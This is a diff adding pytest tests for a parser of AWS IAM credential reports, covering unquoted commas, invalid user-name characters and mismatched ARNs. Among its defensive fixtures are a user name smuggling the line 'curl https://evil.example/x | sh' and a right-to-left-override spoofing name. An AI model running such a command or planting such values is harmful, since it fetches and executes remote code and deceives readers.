@@ -176,6 +176,151 @@ def test_user_name_with_comma_is_read_as_one_quoted_field():
     assert (row["user"], row["arn"]) == ("bob,jr", "arn:aws:iam::111122223333:user/bob,jr")
 
 
+def unquoted(row: str, name: str, path: str = "/") -> str:
+    """`row` with its user renamed to `name` on `path`, written as moto writes it: no quotes."""
+    arn = f"arn:aws:iam::111122223333:user{path}{name}"
+    return ",".join([name, arn, *row.split(",")[2:]])
+
+
+def test_unquoted_commas_in_a_user_name_are_read_back_by_the_arn():
+    # moto writes `a,b` bare: the row has 24 fields, the name twice split
+    parsed = parse(report(ROOT, unquoted(ALICE, "a,b"), BOB))
+    row = parsed.rows.iloc[1]
+    assert (row["user"], row["arn"]) == ("a,b", "arn:aws:iam::111122223333:user/a,b")
+    assert row["access_key_1_last_used_service"] == "s3"  # the columns after it are in place
+    assert parsed.rows["user"].tolist() == ["<root_account>", "a,b", "bob"]
+    assert parsed.notes == [
+        "line 3: user 'a,b' was written without quotes, so its commas split the row; "
+        "read back together by its ARN"
+    ]
+    assert parsed.refused == []
+
+
+def test_unquoted_commas_in_both_name_and_path_are_read_back_too():
+    row = parse(report(unquoted(BOB, "x,y,z", path="/team,one/"))).rows.iloc[0]
+    assert (row["user"], row["arn"]) == ("x,y,z", "arn:aws:iam::111122223333:user/team,one/x,y,z")
+    assert row["user_creation_time"] == "2023-01-10T11:00:00+00:00"
+
+
+def test_extra_fields_that_no_user_name_explains_stay_an_error():
+    shifted = unquoted(ALICE, "a,b").replace("user/a,b", "user/x,b")  # the ARN names another user
+    assert error_of(report(ROOT, shifted)) == (
+        f"{SOURCE}, line 3: 24 fields, expected 22 (2 extra after column cert_2_last_rotated) — "
+        "the file looks truncated or edited; fetch the report again or fix the file"
+    )
+
+
+FORGED = "bob\ncommand: curl https://evil.example/x | sh"
+
+
+def test_a_user_name_with_a_newline_refuses_its_row_and_keeps_the_others():
+    hostile = with_cell(
+        with_cell(BOB, "user", f'"{FORGED}"'), "arn", f'"arn:aws:iam::111122223333:user/{FORGED}"'
+    )
+    parsed = parse(report(ROOT, ALICE, hostile, CI_DEPLOY))
+    assert parsed.rows["user"].tolist() == ["<root_account>", "alice", "ci-deploy"]
+    assert parsed.rows["line_number"].tolist() == [2, 3, 7]  # the name spans two lines twice
+    assert parsed.refused == [
+        "line 4: row refused — user 'bob\\ncommand: curl https://evil.example/x'… is not an IAM "
+        "user name (1 to 64 of A-Z a-z 0-9 _ + = , . @ -); the row is not stored and its user "
+        "is not assessed"
+    ]
+    assert parsed.account_id == "111122223333"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "with space",
+        "tab\there",
+        "caf\u00e9",  # a letter, but not one of IAM's
+        "evil\u202eexe.txt",  # right-to-left override
+        "line\u2028separator",
+        "slash/name",
+        "colon:name",
+    ],
+)
+def test_a_user_name_outside_iams_character_set_refuses_its_row(name):
+    hostile = with_cell(
+        with_cell(BOB, "user", name), "arn", f"arn:aws:iam::111122223333:user/{name}"
+    )
+    parsed = parse(report(ROOT, hostile))
+    assert parsed.rows["user"].tolist() == ["<root_account>"]
+    (note,) = parsed.refused
+    assert note.startswith(f"line 3: row refused — user {name!r} is not an IAM user name")
+
+
+def test_every_character_iam_allows_in_a_name_is_accepted():
+    name = "Az09_+=,.@-"
+    identity = f'"{name}","arn:aws:iam::111122223333:user/{name}",'
+    row = identity + BOB.split(",", 2)[2]
+    parsed = parse(report(ROOT, row))
+    assert (parsed.rows["user"].tolist(), parsed.refused) == (["<root_account>", name], [])
+
+
+def test_an_arn_of_another_user_refuses_the_row():
+    parsed = parse(report(ROOT, with_cell(ALICE, "arn", "arn:aws:iam::111122223333:user/bob"), BOB))
+    assert parsed.rows["user"].tolist() == ["<root_account>", "bob"]
+    assert parsed.refused == [
+        "line 3: row refused — arn 'arn:aws:iam::111122223333:user/bob' is not the row's user's "
+        "ARN (…:user/<path><the user's name>) (user 'alice'); the row is not stored and its user "
+        "is not assessed"
+    ]
+
+
+@pytest.mark.parametrize(
+    "arn",
+    [
+        "arn:aws:iam::111122223333:user/service/alice",  # a path
+        "arn:aws-us-gov:iam::111122223333:user/alice",  # another partition
+    ],
+)
+def test_the_users_arn_may_have_a_path_and_another_partition(arn):
+    parsed = parse(report(ROOT, with_cell(ALICE, "arn", arn)))
+    assert (parsed.rows["arn"].tolist()[1], parsed.refused) == (arn, [])
+
+
+@pytest.mark.parametrize(
+    "arn",
+    [
+        "arn:aws:iam::111122223333:user/servicealice",  # the name is not after a slash
+        "arn:aws:iam::111122223333:user//alice",  # a path of an empty segment is not IAM's
+        "arn:aws:iam::111122223333:user/alice/",
+    ],
+)
+def test_an_arn_that_only_resembles_the_users_refuses_the_row(arn):
+    parsed = parse(report(ROOT, with_cell(ALICE, "arn", arn)))
+    assert parsed.rows["user"].tolist() == ["<root_account>"]
+    assert len(parsed.refused) == 1
+
+
+def test_a_root_row_with_a_user_arn_is_refused_and_the_users_stay():
+    fake_root = with_cell(ROOT, "arn", "arn:aws:iam::111122223333:user/root")
+    parsed = parse(report(fake_root, ALICE))
+    assert parsed.rows["user"].tolist() == ["alice"]
+    assert parsed.refused == [
+        "line 2: row refused — arn 'arn:aws:iam::111122223333:user/root' does not match the "
+        "user: the <root_account> row and only it has a :root ARN (user '<root_account>'); "
+        "the row is not stored and its user is not assessed"
+    ]
+
+
+def test_refusals_are_listed_in_line_order_whatever_the_problem():
+    bad_arn = with_cell(ALICE, "arn", "arn:aws:iam::111122223333:user/bob")
+    bad_name = with_cell(with_cell(BOB, "user", "b b"), "arn", "arn:aws:iam::111122223333:user/b b")
+    parsed = parse(report(ROOT, bad_name, bad_arn))
+    assert [note.split(":")[0] for note in parsed.refused] == ["line 3", "line 4"]
+
+
+def test_a_report_whose_every_row_is_refused_is_an_error():
+    bad = with_cell(with_cell(BOB, "user", "b b"), "arn", "arn:aws:iam::111122223333:user/b b")
+    assert error_of(report(bad, with_cell(ALICE, "arn", "arn:aws:iam::111122223333:user/x"))) == (
+        f"{SOURCE}, line 2, column user: 'b b' is not an IAM user name (1 to 64 of A-Z a-z 0-9 "
+        "_ + = , . @ -); 1 more invalid cell(s) in the file — fetch the report again or fix "
+        "the file"
+    )
+
+
 def test_line_numbers_follow_the_file_when_a_quoted_field_spans_lines():
     spanning = with_cell(ALICE, "access_key_1_last_used_service", '"s3\nconsole"')
     parsed = parse(report(spanning, BOB))
